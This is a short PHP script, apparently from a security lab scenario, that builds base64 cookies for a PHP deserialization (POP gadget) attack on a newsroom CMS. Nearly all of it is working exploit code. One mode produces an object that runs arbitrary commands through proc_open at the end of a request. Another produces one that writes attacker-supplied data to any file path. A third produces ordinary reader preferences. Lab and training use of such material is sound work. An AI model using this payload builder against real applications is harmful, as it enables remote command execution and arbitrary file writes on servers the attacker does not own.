<?php
// The attacker's payload builder of scenario-news-deser (runs as labremote,
// php CLI): prints the base64 nr_prefs cookie that makes the newsroom's
// unserialize() build one of the CMS's own classes (a POP gadget):
//   php news-gadget.php job ARGV...   NR_DeferredJob: proc_open(ARGV array) at the end of the request
//   php news-gadget.php write FILE    NR_CacheEntry: file_put_contents(FILE, stdin) at the end of the request
//   php news-gadget.php prefs         a reader's ordinary preferences (array)
class NR_DeferredJob { public $argv = []; public $cwd = '/var/www/news'; public $log = '/var/www/news/cache/jobs.log'; }
class NR_CacheEntry { public $file; public $data = ''; public $dirty = false; }
$mode = $argv[1] ?? 'prefs';
if ($mode === 'job') {
    $o = new NR_DeferredJob(); $o->argv = array_slice($argv, 2);
} elseif ($mode === 'write') {
    $o = new NR_CacheEntry(); $o->file = $argv[2]; $o->data = stream_get_contents(STDIN); $o->dirty = true;
} else {
    $o = ['theme' => $argv[2] ?? 'dark', 'font' => 'l', 'topics' => ['politics', 'local']];
}
echo base64_encode(serialize($o)), "\n";
